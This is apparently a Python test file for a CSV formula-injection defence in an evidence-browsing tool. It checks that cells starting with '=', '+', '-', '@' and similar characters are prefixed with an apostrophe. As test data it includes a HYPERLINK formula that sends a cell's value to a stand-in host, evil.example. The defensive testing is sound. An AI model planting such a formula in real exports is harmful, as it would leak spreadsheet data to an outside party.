"""Nothing that came from evidence is run by the spreadsheet that a CSV is opened with."""

from __future__ import annotations

import uuid

import pytest
from hypothesis import given
from hypothesis import strategies as st

from controller.browse.items import FIELDS
from core.csv_cells import csv_cells, defused

FORMULA = '=HYPERLINK("http://evil.example/"&A1,"open")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_what_could_be_a_formula_is_text(start: str) -> None:
    """An apostrophe in front and nothing else."""
    assert defused(f"{start}1+1") == f"'{start}1+1"


@given(st.text(max_size=20))
def test_nothing_is_lost(cell: str) -> None:
    """One apostrophe at most, and the cell is behind it."""
    assert defused(cell) in (cell, f"'{cell}")
    assert not defused(cell).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_an_items_row_is_defused_unless_it_is_wanted_raw() -> None:
    """Names, paths and custodians come from outside; figures and ids stay what they are."""
    ident = str(uuid.UUID(int=1))
    item = dict.fromkeys(FIELDS) | {
        "id": ident,
        "custodian": "@SUM(A1)",
        "container_path": [FORMULA, "x"],
        "name": "-2+3",
        "bytes": 12,
        "container": False,
        "exceptions": [],
    }
    row = dict(zip(FIELDS, csv_cells(item, FIELDS), strict=True))
    assert (row["id"], row["bytes"], row["sha256"]) == (ident, "12", "")
    assert (row["custodian"], row["name"], row["container_path"]) == ("'@SUM(A1)", "'-2+3", f"'{FORMULA} / x")
    raw = dict(zip(FIELDS, csv_cells(item, FIELDS, raw=True), strict=True))
    assert (raw["custodian"], raw["name"], raw["container_path"]) == ("@SUM(A1)", "-2+3", f"{FORMULA} / x")
